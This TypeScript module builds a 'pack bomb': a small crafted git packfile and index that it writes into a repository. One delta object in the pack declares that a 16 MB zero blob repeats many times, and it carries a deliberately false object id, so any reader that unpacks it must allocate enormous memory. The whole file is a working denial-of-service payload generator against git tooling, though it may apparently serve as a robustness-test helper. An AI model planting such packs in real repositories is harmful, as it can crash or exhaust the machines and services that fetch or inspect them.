import { createHash } from "node:crypto";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { crc32, deflateSync } from "node:zlib";

const pieceBytes = 16_777_215;

interface Packed {
  readonly id: Buffer;
  readonly bytes: Buffer;
}

/**
 * Plants a pack of some kilobytes in a repository, and answers its commit. One of its files is said to be the same
 * sixteen megabytes again and again, so that whoever unpacks it needs as much memory as it says.
 */
export function plantPackBomb(gitFolder: string, times: number): string {
  const zeros = Buffer.alloc(pieceBytes);
  const base = packed(3, idOf("blob", zeros), Buffer.alloc(0), zeros);
  const bomb = packed(7, Buffer.alloc(20, 7), base.id, delta(times)); // nobody gets so far as to see that its id is wrong
  const tree = Buffer.concat([Buffer.from("100644 a\0"), base.id, Buffer.from("100644 b\0"), bomb.id]);
  const treeId = idOf("tree", tree);
  const who = "a <a@example.com> 1 +0000";
  const commit = Buffer.from(`tree ${treeId.toString("hex")}\nauthor ${who}\ncommitter ${who}\n\nx\n`);
  const commitId = idOf("commit", commit);
  const all = [packed(1, commitId, Buffer.alloc(0), commit), packed(2, treeId, Buffer.alloc(0), tree), base, bomb];
  writePack(join(gitFolder, "objects/pack"), all);
  return commitId.toString("hex");
}

const sha1 = (...parts: readonly (Buffer | string)[]) => {
  const hash = createHash("sha1");
  for (const part of parts) hash.update(part);
  return hash.digest();
};

const idOf = (type: string, content: Buffer) => sha1(`${type} ${content.length}\0`, content);

const packed = (type: number, id: Buffer, base: Buffer, content: Buffer): Packed => ({
  id,
  bytes: Buffer.concat([header(type, content.length), base, deflateSync(content)]),
});

/** The kind and the size of an object, as a pack has it. */
function header(type: number, size: number): Buffer {
  const rest = Math.floor(size / 16);
  const first = (type << 4) | (size & 15);
  return rest === 0 ? Buffer.from([first]) : Buffer.concat([Buffer.from([first | 0x80]), variable(rest)]);
}

/** A number in groups of seven bits, the lowest first. */
function variable(size: number): Buffer {
  const bytes: number[] = [];
  for (let rest = size; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return Buffer.from([...bytes, rest]);
    bytes.push((rest % 128) | 0x80);
  }
}

/** "Take the whole of it", many times. */
const delta = (times: number) =>
  Buffer.concat([
    variable(pieceBytes),
    variable(pieceBytes * times),
    ...Array.from({ length: times }, () => Buffer.from([0xf0, 0xff, 0xff, 0xff])),
  ]);

const number = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

function writePack(folder: string, all: readonly Packed[]): void {
  const head = Buffer.concat([Buffer.from("PACK"), number(2), number(all.length)]);
  const body = Buffer.concat([head, ...all.map(({ bytes }) => bytes)]);
  const pack = Buffer.concat([body, sha1(body)]);
  let place = head.length;
  const rows = all.map(({ id, bytes }) => {
    const row = { id, crc: crc32(bytes), place };
    place += bytes.length;
    return row;
  });
  rows.sort((left, right) => left.id.compare(right.id));
  const fan = Array.from({ length: 256 }, (_, first) =>
    number(rows.filter(({ id }) => id.readUInt8(0) <= first).length),
  );
  const table = [
    ...rows.map(({ id }) => id),
    ...rows.map(({ crc }) => number(crc)),
    ...rows.map((row) => number(row.place)),
  ];
  const index = Buffer.concat([Buffer.from("ff744f63", "hex"), number(2), ...fan, ...table, pack.subarray(-20)]);
  const name = join(folder, `pack-${pack.subarray(-20).toString("hex")}`);
  writeFileSync(`${name}.pack`, pack);
  writeFileSync(`${name}.idx`, Buffer.concat([index, sha1(index)]));
}
